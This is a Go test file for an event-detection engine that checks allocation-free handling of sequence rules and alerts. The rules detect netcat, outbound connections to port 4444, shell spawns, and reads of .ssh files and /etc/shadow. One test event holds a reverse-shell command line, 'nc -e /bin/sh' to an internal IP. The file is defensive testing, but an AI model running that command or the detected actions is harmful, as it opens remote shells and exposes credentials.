package detect

import (
	"testing"
	"time"

	"github.com/kestrel-sec/kestrel/rule"
	"github.com/kestrel-sec/kestrel/schema"
	"github.com/kestrel-sec/kestrel/sink"
)

// TestHandleNoAllocs proves the per-event paths allocate nothing: events
// no rule matches, events that only start or advance partial matches of
// a known key, and until events.
func TestHandleNoAllocs(t *testing.T) {
	if raceEnabled {
		t.Skip("the race detector allocates")
	}
	rules := []*rule.Package{
		pkg(t, "single", `process where process.executable == "/usr/bin/nc" and process.pid > 1`),
		pkg(t, "seq", `sequence by process.entity_id with maxspan=10s
  [network where network.dest_port in (4444, 5555) and network.direction == "outbound"]
  [process where process.executable : ("/bin/*sh", "/usr/bin/*sh")]
  [file where file.path regex~ ".*\\.ssh/.*"]
until [process where event.action == "exit"]`),
		pkg(t, "any", `any where process.name like~ "mimi*"`),
	}
	d, err := New(Config{Output: &capture{}, Rules: rules})
	if err != nil {
		t.Fatal(err)
	}
	miss := ev{1, "process_exec", time.Second, 1, []any{"process.entity_id", "p1", "process.executable", "/bin/ls",
		"process.pid", 10, "process.name", "ls"}}.build(t)
	start := ev{2, "network_connect", time.Second, 1, []any{"process.entity_id", "p1", "network.dest_port", uint64(4444),
		"network.direction", "outbound"}}.build(t)
	advance := ev{3, "process_exec", time.Second, 1, []any{"process.entity_id", "p1", "process.executable", "/bin/bash"}}.build(t)
	until := ev{4, "process_exit", time.Second, 1, []any{"process.entity_id", "p1", "event.action", "exit"}}.build(t)
	batch := []*schema.Event{&miss}
	d.Handle(0, batch)
	if n := testing.AllocsPerRun(1000, func() { d.Handle(0, batch) }); n != 0 {
		t.Fatalf("no-match path: %v allocs per event", n)
	}
	seqBatch := []*schema.Event{&start, &advance, &start, &advance, &until, &miss}
	d.Handle(0, seqBatch) // warm: the keyState is created once, then recycled
	if n := testing.AllocsPerRun(1000, func() { d.Handle(0, seqBatch) }); n != 0 {
		t.Fatalf("partial-match path: %v allocs per batch", n)
	}
	if s := d.Stats(); s.Alerts != 0 || s.Evicted.Terminated == 0 {
		t.Fatalf("stats %+v", s)
	}
}

// TestRouteNoAllocs proves Route, which producers call for every event,
// allocates nothing: on events that match nothing and on events it routes.
func TestRouteNoAllocs(t *testing.T) {
	if raceEnabled {
		t.Skip("the race detector allocates")
	}
	rules := []*rule.Package{
		pkg(t, "single", `process where process.executable == "/usr/bin/nc"`),
		pkg(t, "user", `sequence by user.name [process where process.name == "sudo"] [file where file.path == "/etc/shadow"]
until [process where event.action == "logout"]`),
		pkg(t, "global", `sequence [process where process.name == "nc"] [network where network.dest_port == 4444]`),
	}
	d, err := New(Config{Output: &capture{}, Rules: rules, Partitions: 8,
		EntityPartition: func(schema.EntityKey) int { return 0 }})
	if err != nil {
		t.Fatal(err)
	}
	evs := []schema.Event{
		ev{1, "process_exec", 0, 1, []any{"user.name", "alice", "process.name", "ls"}}.build(t),
		ev{2, "process_exec", 0, 1, []any{"user.name", "alice", "process.name", "sudo"}}.build(t),
		ev{3, "process_exec", 0, 1, []any{"process.name", "nc", "process.executable", "/usr/bin/nc"}}.build(t),
		ev{4, "process_exit", 0, 1, []any{"user.name", "alice", "event.action", "logout"}}.build(t),
	}
	routed := 0
	for i := range evs {
		if set := d.Route(&evs[i]); set.Len() != 0 {
			routed++
		}
	}
	if routed != 3 {
		t.Fatalf("%d of 4 events routed, want 3", routed)
	}
	if n := testing.AllocsPerRun(1000, func() {
		for i := range evs {
			d.Route(&evs[i])
		}
	}); n != 0 {
		t.Fatalf("Route: %v allocs per 4 events", n)
	}
}

// countAlerts counts alerts and keeps nothing, so it allocates nothing.
type countAlerts struct{ n int }

func (c *countAlerts) Emit(*sink.Alert) error { c.n++; return nil }

// TestAlertsAllocAmortized: raising an alert allocates nothing but, now
// and then, a new slab chunk (alertslab.go): at most one allocation per
// 16 alerts, event and sequence rules alike, field strings included.
func TestAlertsAllocAmortized(t *testing.T) {
	if raceEnabled {
		t.Skip("the race detector allocates")
	}
	rules := []*rule.Package{
		pkg(t, "single", `process where process.name == "nc"`),
		pkg(t, "seq", `sequence by process.entity_id [process where process.name == "nc"] [network where network.dest_port == 4444]`),
	}
	out := &countAlerts{}
	d, err := New(Config{Output: out, Rules: rules})
	if err != nil {
		t.Fatal(err)
	}
	exec := ev{1, "process_exec", time.Second, 1, []any{"process.entity_id", "p1", "process.name", "nc",
		"process.executable", "/usr/bin/nc", "process.command_line", "nc -e /bin/sh 10.0.0.1 4444"}}.build(t)
	conn := ev{2, "network_connect", time.Second, 1, []any{"process.entity_id", "p1", "network.dest_port", uint64(4444)}}.build(t)
	var batch []*schema.Event
	for range 128 {
		batch = append(batch, &exec, &conn)
	}
	d.Handle(0, batch) // warm: the join key exists
	before := out.n
	allocs := testing.AllocsPerRun(50, func() { d.Handle(0, batch) })
	perBatch := (out.n - before) / 51
	if perBatch != 256 {
		t.Fatalf("%d alerts per batch, want 256 (128 event, 128 sequence)", perBatch)
	}
	if allocs > float64(perBatch)/16 {
		t.Fatalf("%v allocs per %d alerts", allocs, perBatch)
	}
	t.Logf("%v allocs per %d alerts", allocs, perBatch)
}
